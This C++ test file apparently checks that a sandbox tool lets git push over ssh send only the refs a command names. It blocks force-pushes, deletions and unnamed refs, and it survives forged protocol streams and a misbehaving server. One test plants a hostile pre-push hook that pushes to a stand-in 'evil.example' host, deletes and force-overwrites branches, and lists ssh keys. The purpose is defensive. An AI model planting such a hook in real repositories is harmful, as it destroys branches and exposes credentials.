// git push over ssh: the refs that a line names, as the program pushes them for
// real, and nothing else.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>

#include "tests/gate/git/ssh_remote.h"

namespace gate::app {
namespace {

using test::Count;
using test::Done;
using test::Machine;

// A person's project on `main`, whose server is a directory that a stand-in for
// ssh goes to.
class GitPushTest : public SshRemoteTest {
 protected:
  void SetUp() override {
    if (!HasBackend()) GATE_SKIP_WITHOUT("bwrap") << "no bwrap here";
    machine_.environment = {"PATH=" + bin() + ":/usr/bin:/bin"};
    Prepare("echo \"ssh $*\" >>" + log());
    Outside("git init -q --bare " + server() + " && git clone -q " + server() +
            " . && git checkout -q -b main && git commit -q --allow-empty -m "
            "one && git commit -q --allow-empty -m two && git push -q origin "
            "main main:old main:topic && git remote set-url origin " +
            url());
    // The first run here, which sees the remote.
    if (!test::HasSandbox(machine_)) GTEST_SKIP() << "no sandbox here";
    Outside("git commit -q --allow-empty -m three");
  }

  // "main=three old=two": every ref of the server.
  std::string Server(const std::string& at = "") const {
    return Outside(
               "git -C " + (at.empty() ? server() : at) +
               " for-each-ref --format='%(refname)=%(subject)' | sort | sed "
               "s,refs/heads/,, | tr '\\n' ' '")
        .out;
  }
};

constexpr const char* kBefore = "main=two old=two topic=two ";

TEST_P(GitPushTest, PushesNewRefsAndFastForwards) {
  const struct {
    const char *line, *server;
  } kRows[] = {
      {"git push", "main=three old=two topic=two "},
      {"git push origin main", "main=three old=two topic=two "},
      {"git push -u origin main", "main=three old=two topic=two "},
      {"git push origin HEAD:refs/heads/x",
       "main=two old=two topic=two x=three "},
      {"git push origin main main:topic", "main=three old=two topic=three "},
      {"git tag v1; git push --tags",
       "main=two old=two topic=two refs/tags/v1=three "},
      {"git tag -a -m note v1; git push --follow-tags",
       "main=three old=two topic=two refs/tags/v1=note "},
      {"git push --all", "main=three old=two topic=two "},
      {"git push --atomic origin main main:y",
       "main=three old=two topic=two y=three "},
      {"git checkout -q -b z && git commit -q --allow-empty -m four && git "
       "push -q -u origin HEAD",
       "main=two old=two topic=two z=four "},
      {"git push --force-with-lease origin main",
       "main=three old=two topic=two "},
      {"git push origin \"$(git branch --show-current)\"",
       "main=three old=two topic=two "},
      {"cd . && git push -q", "main=three old=two topic=two "},
      {"git push -n", kBefore},
      {"git merge -q --no-edit topic; git commit -q --allow-empty -m m; git "
       "push",
       "main=m old=two topic=two "},
  };
  const std::string kept = machine_.root() + "/kept";
  Outside("mkdir " + kept + " && cp -a . " + kept + "/project && cp -a " +
          server() + " " + kept + "/server");
  for (const auto& row : kRows) {
    Outside("rm -rf .git " + server() + " && cp -a " + kept +
            "/project/.git . && cp -a " + kept + "/server " + server());
    const Done done = Inside(row.line);
    EXPECT_EQ(done.exit_code, 0) << row.line << "\n" << done.err;
    EXPECT_EQ(Server(), row.server) << row.line << "\n" << done.err;
  }
  const std::string record =
      machine_.Gate({"audit", "list", "--json", "-n", "1"}).out;
  EXPECT_NE(record.find("\"pushed\":\"refs/heads/main "), std::string::npos)
      << record;
  for (const char* version : {"0", "1", "2"}) {
    Outside(std::string("git config protocol.version ") + version);
    const Done done = Inside(std::string("git push origin HEAD:v") + version);
    EXPECT_EQ(done.exit_code, 0) << version << done.err;
  }
}

TEST_P(GitPushTest, PassesNothingOnThatLosesSomethingOrIsNotNamed) {
  Outside("git tag v1 && git push -q " + server() +
          " v1~1:refs/tags/v1 && git branch old && git update-ref "
          "refs/remotes/origin/topic HEAD~1");
  const std::string before = Server();
  const std::string config = machine_.Read(machine_.project() + "/.git/config");
  // What the workspace's configuration makes of a plain line.
  const struct {
    const char *origin, *line, *says;
  } kRows[] = {
      {"push = main:topic", "git push", "does not name refs/heads/topic"},
      {"push = main:new", "git push", "does not name refs/heads/new"},
      {"push = +HEAD~2:main", "git push",
       "it replaces commits of refs/heads/main"},
      {"push = +HEAD~2:topic", "git push origin",
       "does not name refs/heads/topic"},
      {"push = :old", "git push", "does not name refs/heads/old"},
      {"push = :main", "git push", "it deletes refs/heads/main"},
      {"push = +v1:v1", "git push", "does not name refs/tags/v1"},
      {"push = +v1:refs/tags/v1", "git push --tags", ""},
      {"push = +v1:refs/tags/v1", "git push --follow-tags",
       "it replaces refs/tags/v1"},
      {"mirror = true", "git push", "does not name"},
      {"push = +refs/heads/*:refs/heads/*", "git push", ""},
      {"[push]\ndefault = matching", "git push",
       "does not name refs/heads/old"},
      {"[push]\nfollowTags = true", "git tag -a -m x v2; git push origin main",
       "does not name"},
      {"", "git push --force-with-lease=topic origin HEAD~2:topic",
       "it replaces commits of refs/heads/topic"},
  };
  for (const auto& row : kRows) {
    machine_.Write(machine_.project() + "/.git/config",
                   config +
                       (row.origin[0] == '[' ? "" : "[remote \"origin\"]\n") +
                       row.origin + "\n");
    const Done done = Inside(row.line);
    EXPECT_NE(done.err.find(row.says), std::string::npos)
        << row.origin << " | " << row.line << done.err;
    if (row.says[0] != '\0') {
      EXPECT_NE(done.exit_code, 0) << row.line;
      EXPECT_EQ(Server(), before) << row.origin << " | " << row.line;
    }
    // Whatever became of it, nothing that was there is gone.
    for (const char* branch : {"main", "old", "topic"})
      Outside("git merge-base --is-ancestor HEAD~1 $(git -C " + server() +
              " rev-parse " + branch + ")");
  }
}

// What a hook does with git's way out.
TEST_P(GitPushTest, GivesAHookNothingOfItsOwn) {
  machine_.Write(machine_.project() + "/.git/hooks/pre-push",
                 "#!/bin/sh\n"
                 "git push --no-verify origin HEAD:evil\n"
                 "git push --no-verify origin :old\n"
                 "git push --no-verify -f origin HEAD~2:topic\n"
                 "git push --no-verify git@evil.example:x HEAD:main\n"
                 "ssh-add -l; ls ~/.ssh; exit 0\n",
                 0755);
  const Done done = Inside("git push");
  EXPECT_EQ(done.exit_code, 0) << done.err;
  EXPECT_EQ(Server(), "main=three old=two topic=two ");
  EXPECT_EQ(Count(done.err, "a hook's own is not passed on"), 3u) << done.err;
  EXPECT_EQ(Count(machine_.Read(log()), "git-receive-pack"), 1u);
  EXPECT_EQ(Count(machine_.Read(log()), "evil"), 0u);
}

// Any program can speak to the stub as git does.
TEST_P(GitPushTest, TellsAStreamThatGitWouldNotSend) {
  const std::string zeros(40, '0');
  const std::string main = Outside("git rev-parse HEAD~1").out.substr(0, 40);
  const std::string three = Outside("git rev-parse HEAD").out.substr(0, 40);
  const struct {
    std::string command;
    const char* says;
  } kRows[] = {
      {main + " " + zeros + " refs/heads/main", "it deletes refs/heads/main"},
      {main + " " + zeros + " refs/heads/old", "does not name refs/heads/old"},
      {zeros + " " + main + " refs/heads/evil", "does not name"},
      {zeros + " " + three + " refs/heads/main",
       "is not what the other side has"},
      {main + " " + std::string(40, '1') + " refs/heads/main",
       "cannot be shown to keep them"},
  };
  for (const auto& row : kRows) {
    char length[8];
    std::snprintf(length, sizeof(length), "%04zx", row.command.size() + 4);
    machine_.Write(machine_.project() + "/stream",
                   length + row.command + "0000PACK");
    machine_.Write(machine_.project() + "/go.sh",
                   "$GIT_SSH_COMMAND git@host.example \"git-receive-pack '" +
                       server() + "'\" <stream >/dev/null\n");
    const Done done = Inside("sh go.sh; git push -n");
    EXPECT_NE(done.err.find(row.says), std::string::npos)
        << row.says << done.err;
    EXPECT_EQ(Server(), kBefore) << row.says;
  }
}

TEST_P(GitPushTest, SaysWhatWasNotPassedOnAndWhatThePersonMayRun) {
  Outside("git reset -q --soft HEAD~2 && git commit -q --allow-empty -m other");
  const Done done = Inside("git push --force-with-lease origin main");
  EXPECT_NE(done.exit_code, 0);
  EXPECT_NE(done.err.find("gate: the push to " + url() +
                          " is not passed on: it replaces commits of "
                          "refs/heads/main, or cannot be shown to keep them\n"),
            std::string::npos)
      << done.err;
  EXPECT_NE(done.err.find("in a terminal of their own: git push "
                          "--force-with-lease origin main;"),
            std::string::npos)
      << done.err;
  EXPECT_EQ(Server(), kBefore);
  // Nothing is passed on for a line that pushes by another's hand.
  machine_.Write(machine_.project() + "/go.sh", "git push origin main:new\n");
  const Done script = Inside("sh go.sh; git fetch -q");
  EXPECT_NE(script.err.find("the line does not run `git push` itself"),
            std::string::npos)
      << script.err;
  EXPECT_EQ(Server(), kBefore);
}

TEST_P(GitPushTest, SurvivesAServerThatLies) {
  const char* const kAnswers[] = {
      "printf garbage",
      "printf '0004'",
      "printf 'ffff'",
      ":",
      "head -c 300000 /dev/zero",
      "yes '003e1234567890123456789012345678901234567890 refs/pull/1/head'",
      "kill -9 $$",
      "printf '000eversion 2\\n0000'; cat >/dev/null",
      "printf '0012ERR no access\\n'; cat >/dev/null"};
  for (const char* answer : kAnswers) {
    machine_.Write(bin() + "/ssh", std::string("#!/bin/sh\n") + answer + "\n",
                   0755);
    const Done done = Inside("git push");
    EXPECT_NE(done.exit_code, 0) << answer;
    EXPECT_NE(done.err, "") << answer;
  }
  EXPECT_EQ(Server(), kBefore);
}

// remote.*.pushurl and the rewrites, as they were at first sight.
TEST_P(GitPushTest, PushesWhereTheRepositoryPushedToAtFirstSight) {
  const std::string second = machine_.root() + "/server/b.git";
  Outside("git init -q --bare " + second + " && git push -q " + second +
          " HEAD~1:refs/heads/main");
  const std::string at = "git@host.example:" + second;
  int count = 0;
  const auto fresh = [&](const std::string& config) {
    const std::string place = machine_.home() + "/n" + std::to_string(++count);
    Outside("cp -a . " + place + " && cd " + place + " && " + config);
    return Inside("git push origin main", place);
  };
  const Done pushurl = fresh("git config remote.origin.pushurl " + at);
  EXPECT_EQ(pushurl.exit_code, 0) << pushurl.err;
  EXPECT_EQ(Server(second), "main=three ");
  EXPECT_EQ(Server(), kBefore);
  const Done push_in_place = fresh(
      "git remote set-url origin https://nowhere.example/a.git && git config "
      "url.git@host.example:" +
      machine_.root() + "/server/.pushInsteadOf https://nowhere.example/");
  EXPECT_EQ(push_in_place.exit_code, 0) << push_in_place.err;
  EXPECT_EQ(Server(), "main=three old=two topic=two ");
  // One that came later is not among them.
  Outside("git config remote.origin.pushurl " + at);
  const Done later = Inside("git push origin main:later");
  EXPECT_NE(later.exit_code, 0);
  EXPECT_NE(later.err.find("is not where this repository pushed to"),
            std::string::npos)
      << later.err;
}

INSTANTIATE_TEST_SUITE_P(Backends, GitPushTest,
                         ::testing::Values("native", "bwrap"));

}  // namespace
}  // namespace gate::app
